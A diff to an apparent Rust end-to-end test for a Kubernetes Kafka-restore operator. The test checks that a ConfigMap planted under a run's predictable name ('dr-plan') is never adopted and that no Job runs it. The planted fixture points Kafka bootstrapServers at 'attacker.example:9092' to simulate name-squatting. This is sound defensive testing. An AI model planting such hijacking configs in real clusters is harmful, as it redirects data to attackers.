@@ -1,4 +1,5 @@
-//! A run's children have predictable names (`<restore>-restore`, `<backup>-<time>`), so anyone
+//! A run's children have predictable names (`<restore>-plan`, `<restore>-restore`,
+//! `<backup>-<time>`), so anyone
 //! who may create a ConfigMap or a Job in the namespace could plant one before the run starts.
 //! The operator adopts an existing child only when it carries the resource's owner reference
 //! (uid); otherwise the resource shows `ForeignObject` naming the object, and nothing runs until
@@ -20,10 +21,10 @@ async fn a_planted_config_map_under_a_run_s_name_is_never_adopted() -> anyhow::R
     let ns = namespace_with_kafka(&cluster, "foreign").await?;
     let s = unique_suffix();
     let prefix = format!("e2e-foreign-{s}/");
-    // Planted before the KafkaRestore exists, under the name its run will take.
+    // Planted before the KafkaRestore exists, under the name its run takes first (its plan's).
     let config_maps: Api<ConfigMap> = Api::namespaced(cluster.client.clone(), &ns);
     let planted: ConfigMap = serde_json::from_value(serde_json::json!({
-        "metadata": {"name": "dr-restore"},
+        "metadata": {"name": "dr-plan"},
         "data": {"config.yaml": "kafka: {bootstrapServers: 'attacker.example:9092'}\n"},
     }))?;
     config_maps.create(&PostParams::default(), &planted).await?;
@@ -48,22 +49,22 @@ async fn a_planted_config_map_under_a_run_s_name_is_never_adopted() -> anyhow::R
         })
         .await
         .map_err(|e| e.context(operator.log_text()))?;
-    assert!(message.contains("ConfigMap dr-restore") && message.contains("never adopts"), "{message}");
+    assert!(message.contains("ConfigMap dr-plan") && message.contains("never adopts"), "{message}");
     let jobs: Api<Job> = Api::namespaced(cluster.client.clone(), &ns);
-    assert!(jobs.get_opt("dr-restore").await?.is_none(), "no Job runs the planted config");
-    let kept = config_maps.get("dr-restore").await?;
+    assert!(jobs.get_opt("dr-plan").await?.is_none(), "no Job runs the planted config");
+    let kept = config_maps.get("dr-plan").await?;
     assert!(kept.data.unwrap_or_default()["config.yaml"].contains("attacker.example"), "left as it was");
 
     // Once it is gone, the run starts with a ConfigMap and a Job of its own.
-    config_maps.delete("dr-restore", &DeleteParams::default()).await?;
+    config_maps.delete("dr-plan", &DeleteParams::default()).await?;
     let uid = restores.get("dr").await?.metadata.uid.unwrap_or_default();
     let job = wait_until(Duration::from_secs(120), "the restore's own Job", || async {
-        Ok(jobs.get_opt("dr-restore").await?)
+        Ok(jobs.get_opt("dr-plan").await?)
     })
     .await
     .map_err(|e| e.context(operator.log_text()))?;
     assert!(job.metadata.owner_references.unwrap_or_default().iter().any(|o| o.uid == uid));
-    let own = config_maps.get("dr-restore").await?;
+    let own = config_maps.get("dr-plan").await?;
     assert!(own.metadata.owner_references.unwrap_or_default().iter().any(|o| o.uid == uid));
     Ok(())
 }
